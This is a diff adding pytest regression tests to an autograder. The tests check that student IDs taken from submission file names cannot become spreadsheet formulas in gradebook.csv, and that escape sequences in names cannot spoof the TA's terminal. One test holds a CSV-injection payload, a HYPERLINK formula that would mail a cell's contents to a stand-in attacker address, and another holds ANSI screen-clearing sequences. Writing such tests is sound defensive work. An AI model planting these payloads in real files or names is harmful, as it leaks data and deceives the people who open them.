@@ -85,3 +85,50 @@ def test_the_same_code_meets_the_same_inputs_and_other_code_other_inputs():
     assert public.public and draw(public.for_submission("aa" * 32)) == draw(public)
     with pytest.raises(ValueError):
         key.for_submission("")
+
+
+# ----------------------------------------------------------------------------- the class's files
+
+_FORMULA = '=HYPERLINK("mailto:x@evil.example?body="&B1,"see grade")'  # no "/": a file name'
+
+
+@pytest.mark.parametrize("clean", [True, False], ids=["kit", "unprotected"])
+def test_a_student_id_is_never_a_spreadsheet_formula(tmp_path, monkeypatch, clean):
+    """A submission named like a formula: gradebook.csv's cell starts with ' (OWASP), and the id still names the row."""
+    import csv
+    import io
+
+    from autograder.batch import gradebook
+    from autograder.batch.discover import discover
+    from autograder.batch.records import CRASHED, SubmissionRecord
+
+    class_dir = tmp_path / "class"
+    class_dir.mkdir()
+    (class_dir / f"{_FORMULA}.zip").write_bytes(b"not a zip")
+    (class_dir / "＝1+1.zip").write_bytes(b"not a zip")  # full-width '=', as a Japanese IME types it
+    (class_dir / "alice.zip").write_bytes(b"not a zip")
+    ids = [e.student for e in discover(class_dir)]
+    assert _FORMULA in ids
+    if not clean:
+        monkeypatch.setattr(gradebook, "clean_cell", lambda text: text)
+    gradebook.write_gradebook([SubmissionRecord(s, CRASHED) for s in ids], tmp_path / "gradebook.csv", 100)
+    cells = [row[0] for row in csv.reader(io.StringIO((tmp_path / "gradebook.csv").read_text()))][1:]
+    formulas = [c for c in cells if c[:1] in ("=", "＝", "+", "-", "@")]
+    if clean:
+        assert not formulas and f"'{_FORMULA}" in cells and "alice" in cells
+    else:
+        assert len(formulas) == 2, "without clean_cell the spreadsheet runs both cells"
+
+
+def test_an_escape_sequence_in_a_file_name_cannot_paint_the_tas_terminal():
+    """Progress lines and report.txt of a refused submission show ESC escaped."""
+    import io
+
+    from autograder.batch.progress import Progress
+    from autograder.batch.records import REFUSED, SubmissionRecord
+
+    name = "bob\x1b[2J\x1b[H[24/24] alice: 100 / 100"
+    stream = io.StringIO()
+    Progress(1, stream=stream).update(SubmissionRecord(name, REFUSED, message="bad zip \x1b[31m\r"))
+    line = stream.getvalue()
+    assert "\x1b" not in line and "\r" not in line and "\\x1b[2J" in line and line.count("\n") == 1
